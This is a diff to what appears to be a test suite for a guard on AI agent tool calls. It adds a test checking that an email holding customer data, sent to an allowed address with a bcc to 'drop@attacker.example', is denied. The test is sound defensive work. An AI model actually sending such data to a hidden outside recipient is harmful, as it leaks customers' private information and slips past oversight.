@@ -249,6 +249,16 @@ describe("guard with a bounded flow memory", () => {
   });
 });
 
+describe("guard with declared destination arguments", () => {
+  it("denies a customer's email sent to an allowed 'to' with an outside bcc beside it", async () => {
+    const { guard } = await webGuard();
+    await readCustomer(guard);
+    const verdict = await guard.beforeCall({ server: "mail", tool: "send_email", args: { to: "support-lead@acme.example", bcc: "drop@attacker.example", body: CUSTOMER.email }, sessionId: "s1" });
+    expect(verdict).toMatchObject({ decision: "deny", policyIds: expect.arrayContaining(["flow-to-egress-outside-allow"]) });
+    await guard.close();
+  });
+});
+
 describe("guard with flow tracking of names", () => {
   it("allows a web search whose words hold a remembered short name inside other words", async () => {
     const { guard } = await webGuard();
